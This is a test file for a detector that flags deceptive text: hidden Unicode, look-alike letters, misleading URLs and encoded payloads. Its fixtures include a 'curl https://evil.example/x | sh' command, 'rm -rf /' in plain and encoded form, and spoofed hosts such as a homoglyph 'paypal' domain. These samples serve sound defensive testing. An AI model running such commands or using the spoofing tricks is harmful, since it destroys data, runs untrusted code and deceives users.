import { describe, expect, it } from 'vitest';
import { addressesIn, decodeEncoded, findings } from '../../../src/display';
import { attacks, benign } from '../../fixtures/attacks';
import { runs } from '../runs';

const kindsIn = (text: string): string[] => findings(text).map(({ kind }) => kind);

describe('findings', () => {
  it.each([
    ['T01_bidi_override', ['bidi']],
    ['T02_isolate_escape', ['bidi']],
    ['T04_tag_smuggling', ['tags']],
    ['T06_zero_width', ['hidden']],
    ['T08_c0_c1', ['control']],
    ['T10_lookalike_space', ['blank']],
    ['T11_homoglyph_host', ['lookalike', 'host']],
    ['T13_userinfo_host', ['host', 'userinfo']],
    ['T15_compat_ascii', ['compatibility']],
    ['T17_zalgo', ['marks']],
    ['T19_space_pad', ['padding']],
    ['T20_newline_pad', ['padding']],
    ['T21_tail', []],
    ['T23_deep', []],
    ['T31_img_exfil', []],
    ['T32_html', []],
  ] as const)('tell what %s does', (name, kinds) => {
    expect(kindsIn(attacks[name])).toEqual(kinds);
  });

  it('give place, length and number', () => {
    expect(findings(attacks.T01_bidi_override)).toEqual([
      { kind: 'bidi', at: 21, length: 1, count: 3 },
    ]);
    expect(findings(attacks.T19_space_pad)).toEqual([
      { kind: 'padding', at: 7, length: 3000, count: 1 },
    ]);
  });

  it('give the hidden text, the host and the form that will run', () => {
    expect(findings(attacks.T04_tag_smuggling)).toMatchObject([{ detail: 'bcc:a@e.io' }]);
    expect(findings(attacks.T11_homoglyph_host)).toMatchObject([
      {},
      { detail: 'xn--pypal-4ve.com' },
    ]);
    expect(findings(attacks.T13_userinfo_host)).toMatchObject([
      { detail: 'evil.example' },
      { detail: 'accounts.google.com' },
    ]);
    expect(findings(attacks.T15_compat_ascii)).toMatchObject([{ detail: 'rm -rf /' }]);
  });

  it('tell of characters that nobody can know', () => {
    for (const char of ['\uE000', '\u0378', '\uD83D'])
      expect(kindsIn(`a${char}`)).toEqual(['unassigned']);
  });
});

describe('ordinary text', () => {
  it.each([
    ...benign,
    '',
    'The quick brown fox.',
    'Δt = 3 µm',
    'αx + βy = σmax, 5 kΩ, sin α',
    'Tiếng Việt rất đẹp',
    'Vie\u0323\u0302t Nam',
    '日本語のテキスト。ＮＨＫ（東京）　大阪！',
    '使用 API（v2）。OK！',
    '한국어 텍스트',
    'שלום עולם, PDF',
    'العربية وPDF',
    '\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645',
    '\u0915\u094D\u200D\u0937',
    'ภาษาไทย ใช้USBได้',
    'Ελληνικά και English',
    'USB-кабель и IP-адрес',
    'сухое',
    'Acme™ №5, 20 ℃, 1.º, Ⅳ, ½ …',
    'См. https://ru.wikipedia.org/wiki/%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82',
    'https://münchen.de/x https://пример.рф/ http://example.com:443/ https://EXAMPLE.com',
    'https://example.com/@user?mail=a@b.c',
    'See (https://example.com/a_b).',
    'user@example.com',
    '550e8400-e29b-41d4-a716-446655440000',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    'packages/app/src/components/VeryLongComponentName2/index',
    'internationalizationAndLocalizationOfEverything',
    'https://example.com/a%20b%20c%20d.txt',
    'line\r\nline\r\n',
    'a\tb',
    'x = "a"          # ten spaces',
    'Mr.\u00A0Smith, «\u00A0oui\u202F!\u00A0»',
    '\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} \u{1F1E9}\u{1F1EA} 1\uFE0F\u20E3 \u21A9\uFE0E',
    '\u845B\u{E0100}\u57CE',
  ])('raises no alarm: %j', (text) => {
    expect(findings(text)).toEqual([]);
  });
});

describe('look-alike letters', () => {
  it.each([
    'p\u0430ypal',
    '\u0441opy_file',
    'Micros\u03BFft',
    '\u0391dmin',
    'p\u03B1ypal',
    'rea\u0501',
    'o\u0585o',
  ])('within a Latin word are found: %j', (text) => {
    expect(kindsIn(text)).toEqual(['lookalike']);
  });

  it('that make up a word among Latin ones are found', () => {
    expect(findings('rm \u0430\u0440\u0440\u04CF\u0435 now')).toEqual([
      {
        kind: 'lookalike',
        at: 3,
        length: 5,
        count: 1,
        codes: 'U+0430, U+0440, U+04CF, U+0435',
      },
    ]);
  });

  it('are no news in a text that holds other letters of their script', () => {
    expect(kindsIn('\u043D\u043E \u0430 foo \u0441\u0443\u0445\u043E\u0435')).toEqual([]);
  });
});

describe('compatibility forms', () => {
  it.each([
    ['\uFF52\uFF4D', 'rm'],
    ['\u{1D42B}\u{1D426}', 'rm'],
    ['\u24E1\u24DC', 'rm'],
    ['a\uFF1Bb\uFF5Cc', ';b|'],
    ['\u212Aey', 'K'],
    ['a\u037Eb', ';'],
    ['\u017Fudo', 's'],
    ['\uFB01le', 'fi'],
    ['\u217Cs', 'l'],
  ])('that become ASCII are found: %j', (text, detail) => {
    expect(findings(text)).toMatchObject([{ kind: 'compatibility', detail }]);
  });
});

describe('addresses', () => {
  it.each([
    ['https://accounts.google.com@evil.example/o', 'evil.example'],
    ['HTTPS:\\\\good.example@evil.example', 'evil.example'],
    ['https:good.example@evil.example', 'evil.example'],
    ['https://good.example\\@evil.example/', 'good.example'],
    ['http://2130706433/', '127.0.0.1'],
    ['http://0x7f.1/', '127.0.0.1'],
    ['http://%65vil.example/', 'evil.example'],
    ['https://p\u0430ypal.com', 'xn--pypal-4ve.com'],
    ['https://\u0430\u0440\u0440\u04CF\u0435.com', 'xn--80ak6aa92e.com'],
    ['https://good.example\u2044x.evil.example/', 'good.xn--examplex-k03d.evil.example'],
    ['https://\uFF45vil.example', 'evil.example'],
  ])('that lead elsewhere than they seem to are found: %j', (text, host) => {
    const found = findings(text).find(({ kind }) => kind === 'host');
    expect(found?.detail).toBe(host);
  });

  it('are listed with the host that they lead to', () => {
    expect(addressesIn('Go to https://a.example:8080/x, or ftp://me@b.example.')).toEqual([
      { at: 6, length: 24, host: 'a.example:8080', written: 'a.example:8080', userinfo: '' },
      { at: 35, length: 18, host: 'b.example', written: 'b.example', userinfo: 'me' },
    ]);
  });

  it('are listed up to a hundred', () => {
    expect(addressesIn('https://a.b '.repeat(1000))).toHaveLength(100);
    expect(addressesIn('https:// http: https://[ https://a b')).toHaveLength(1);
  });
});

describe('encoded text', () => {
  const command = 'curl https://evil.example/x | sh';
  const noise = Array.from({ length: 96 }, (_, i) =>
    String.fromCharCode((i * 151 + 77) % 256),
  ).join('');
  const hex = Array.from(command, (char) => char.charCodeAt(0).toString(16)).join('');
  const percent = hex.replace(/../g, '%$&');

  it.each([
    ['base64 of text', `echo ${btoa(command)} | base64 -d`, '32'],
    ['base64 of bytes', btoa(noise), '96'],
    ['base64 over several lines', btoa(noise).replace(/.{64}(?=.)/g, '$&\n'), '96'],
    ['hex of text', hex, '32'],
    [
      'hex of bytes',
      Array.from(noise, (char) => char.charCodeAt(0).toString(16).padStart(2, '0')).join(''),
      '96',
    ],
    ['percent escapes', percent, '32'],
    ['hidden letters in an address', '%72%6d%20-rf', '6'],
  ])('is found, with the bytes that it stands for: %s', (_, text, detail) => {
    expect(findings(text)).toMatchObject([{ kind: 'encoded', count: 1, detail }]);
  });

  it('is decoded on demand', () => {
    for (const text of [btoa(command), hex, percent, ` ${btoa(command)}\n`])
      expect(decodeEncoded(text)).toBe(command);
    expect(decodeEncoded('_-_-')).toBeNull();
    expect(decodeEncoded(btoa('??>').replace('/', '_').replace('+', '-'))).toBe('??>');
  });

  it('is not guessed at', () => {
    for (const text of [
      '',
      ' ',
      'hello world',
      'abc',
      '%zz',
      '%ff',
      btoa('\xFF\xFE'),
      '=',
      'a===',
      '\u{1F600}',
    ])
      expect(decodeEncoded(text)).toBeNull();
  });

  it('of any length is one finding', () => {
    expect(findings('%41'.repeat(runs(500_000)))).toMatchObject([
      { kind: 'encoded', detail: String(runs(500_000)) },
    ]);
    expect(findings(`${'aB3d'.repeat(19)}\n`.repeat(10_000))).toMatchObject([
      { kind: 'encoded', count: 1 },
    ]);
  });
});

describe('large texts', () => {
  it.each([
    ['one letter', 'a'.repeat(runs(2_000_000))],
    ['one look-alike', '\u0430'.repeat(runs(2_000_000))],
    ['mixed letters', 'p\u0430'.repeat(runs(500_000))],
    ['full-width letters', '\uFF52'.repeat(runs(500_000))],
    ['full-width marks', '\uFF01'.repeat(runs(500_000))],
    ['addresses', 'https://a.b/c '.repeat(runs(100_000))],
    ['schemes', 'https:'.repeat(runs(300_000))],
    ['one address', `https://${'a'.repeat(runs(2_000_000))}`],
    ['full stops', `https://a.b/${'.'.repeat(runs(1_000_000))}`],
    ['escapes', '%41aaaaaaaa'.repeat(runs(100_000))],
    ['equals signs', '='.repeat(runs(1_000_000))],
  ])('are searched, whatever they are made of: %s', (_, text) => {
    expect(() => findings(text)).not.toThrow();
  });
});
